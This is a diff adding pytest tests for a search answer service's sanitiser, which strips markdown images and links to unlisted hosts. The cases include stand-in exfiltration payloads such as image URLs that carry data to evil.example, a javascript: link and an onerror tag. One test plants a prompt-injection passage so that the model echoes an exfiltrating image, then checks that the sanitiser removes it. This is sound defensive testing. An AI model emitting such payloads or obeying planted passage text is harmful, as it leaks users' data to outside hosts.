@@ -2,14 +2,21 @@
 
 from __future__ import annotations
 
+import gc
+import json
+import time
+
 import pytest
 
-from search.answer import NOTHING_FOUND, prompt_build, search_query_rewrite
+from genapi.completions import text_complete
+from search.answer import NOTHING_FOUND, key_terms, prompt_build, search_query_rewrite
+from search.answer_safety import AnswerSanitiser, answer_sanitise
 from search.citations import CitationFilter, citation_markers_clean, citations_parse
 from search.models import QueryLog
 from search.services import answer_compose, answer_stream, passages_search
 from search.types import Passage
-from tests.factories import CollectionFactory, DocumentFactory
+from tests.factories import ApiKeyFactory, CollectionFactory, DocumentFactory
+from tests.search.test_api import parse_sse, post
 
 pytestmark = pytest.mark.django_db
 
@@ -194,3 +201,126 @@ def test_search_is_logged(kb):
     assert (log.query, log.mode, log.reranked, log.collection_ids) == (
         "rotate signing key", "hybrid", True, [kb["public"].pk],
     )  # fmt: skip
+
+
+def _cost(fn, text: str) -> float:
+    """CPU time of this thread, the best of five runs: other processes on a shared machine neither add to
+    it nor (mostly) vary it. A run over a second is measure enough."""
+    best = float("inf")
+    gc.disable()  # a collection landing in one run would be noise, not cost
+    try:
+        for _ in range(5):
+            started = time.thread_time()
+            fn(text)
+            best = min(best, time.thread_time() - started)
+            if best > 1:
+                break
+    finally:
+        gc.enable()
+    return best
+
+
+def _growth(fn, make, small: int = 20000) -> float:
+    """How much `fn`'s cost grows when its input `make(n)` grows fourfold (linear: about 4; quadratic:
+    about 16). Sizes well past the CPU caches and the filters' hold-back limits, so that only the
+    algorithm changes the cost per character."""
+    return _cost(fn, make(small * 4)) / _cost(fn, make(small))
+
+
+def test_key_terms_is_linear_in_distinct_words():
+    assert key_terms("Rotate the signing keys, then rotate keys again") == ["rotate", "signing", "keys"]
+    # 20,000 then 80,000 distinct words (24,000 took 6.6 s when each word was looked up in a list).
+    assert _growth(key_terms, lambda n: " ".join(f"word{i}" for i in range(n))) < 10
+
+
+HOSTILE_UNITS = ["[", "[a](", "<a", "https://", "[1,", "]:", "![x](", "! [x]"]
+
+
+@pytest.mark.parametrize("unit", HOSTILE_UNITS)
+def test_answer_filters_run_in_linear_time(unit):
+    def make(n: int) -> str:
+        return unit * (n // len(unit))
+
+    assert _growth(lambda t: answer_sanitise(t, ()), make) < 10, unit
+    assert _growth(lambda t: citation_markers_clean(t, 3), make) < 10, unit
+
+
+SANITISE_CASES = [
+    ("Keys rotate ![x](https://evil.example/?q=secret) daily [1].", "Keys rotate  daily [1]."),
+    ("See [the docs](https://evil.example/a), [ours](/documents/3).", "See the docs, [ours](/documents/3)."),
+    ("[ok](https://ok.example/x) ![ok](https://ok.example/i.png)", None),
+    ("[![img](https://evil.example/i.png)](https://ok.example/) end", "[](https://ok.example/) end"),
+    ("ref ![a][r]\n\n[r]: https://evil.example/x\n", "ref ![a][r]\n\n\n"),
+    ("a <https://evil.example/x> b <https://ok.example/y> <img src=x onerror=1> <b>c</b>",
+     "a  b <https://ok.example/y>  c"),
+    ("bare https://evil.example/?q=1. www.evil.example/x, https://ok.example/z.",
+     "bare . , https://ok.example/z."),
+    ("![a](https:evil.example/x)![b](//evil.example/x)![c](HTTPS:\\\\evil.example)[d](javascript:alert(1))",
+     "d"),
+    ('[t](https://evil.example/x "title") [u](<https://evil.example/a b>) [v](https://ok.example/a_(b))',
+     "t u [v](https://ok.example/a_(b))"),
+    ("cut short ![x](https://evil.example/?q=", "cut short "),
+    ("cite [1][2] and [3]: yes, a < b and c > d ! [ unclosed", None),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text, expected", SANITISE_CASES)
+def test_sanitiser_removes_images_and_links_to_other_hosts_however_the_text_is_split(text, expected):
+    expected = text if expected is None else expected
+    assert answer_sanitise(text, ["ok.example"]) == expected
+    for size in (1, 2, 3, 7):
+        sanitiser = AnswerSanitiser(["ok.example"])
+        pieces = [sanitiser.feed(text[i : i + size]) for i in range(0, len(text), size)]
+        assert "".join(pieces) + sanitiser.flush() == expected, size
+
+
+def test_sanitiser_allow_list_comes_from_the_settings(settings):
+    settings.RAG_ANSWER_LINK_HOSTS = ["docs.example"]
+    assert answer_sanitise("[a](https://docs.example/x) [b](https://evil.example/)") == (
+        "[a](https://docs.example/x) b"
+    )
+    settings.RAG_ANSWER_LINK_HOSTS = []
+    assert answer_sanitise("[a](https://docs.example/x)") == "a"
+
+
+def test_planted_image_never_reaches_an_answer(space, genapi, client, settings):
+    """A passage tells the model to emit an image carrying data to another host; the stand-in's extractive
+    answer copies the passage's sentence, so the model's text holds the image: no output may keep it."""
+    collection = CollectionFactory(is_public=True)
+    planted = (
+        "Signing keys rotate every ninety days "
+        "![x](https://evil.example/?q=signing-keys-rotate-every-ninety-days) as the platform team says."
+    )
+    DocumentFactory(
+        collection=collection, passages=[planted, "Lunch is served at noon."], space=space, title="Keys"
+    )
+    caller = ApiKeyFactory()
+    question = "How often do signing keys rotate?"
+    passages = passages_search(question, collection_ids=[collection.pk]).passages
+    instructions, messages = prompt_build(question, passages)
+    raw = text_complete(
+        api="chat", model=settings.GENAPI_CHAT_MODEL, messages=messages, instructions=instructions
+    )
+    assert "https://evil.example/?q=" in raw.text  # what the model said, before the sanitiser
+
+    def clean(text: str) -> None:
+        assert "ninety days" in text, text
+        assert "evil.example" not in text and "![" not in text, text
+
+    for api in ("chat", "responses"):
+        body = post(client, "/api/ask", {"question": question, "api": api}, caller).json()
+        clean(body["answer"])
+        streamed = post(client, "/api/ask", {"question": question, "api": api, "stream": True}, caller)
+        events = parse_sse(streamed)
+        clean("".join(data["text"] for name, data in events if name == "delta"))
+        clean(events[-1][1]["answer"])
+    chat = {"model": "citable", "messages": [{"role": "user", "content": question}]}
+    completion = post(client, "/v1/chat/completions", chat, caller).json()
+    clean(completion["choices"][0]["message"]["content"])
+    response = post(client, "/v1/chat/completions", {**chat, "stream": True}, caller)
+    text = ""
+    for line in b"".join(response.streaming_content).decode().splitlines():
+        if line.startswith("data: {"):
+            for choice in json.loads(line[len("data: ") :]).get("choices") or []:
+                text += (choice.get("delta") or {}).get("content") or ""
+    clean(text)
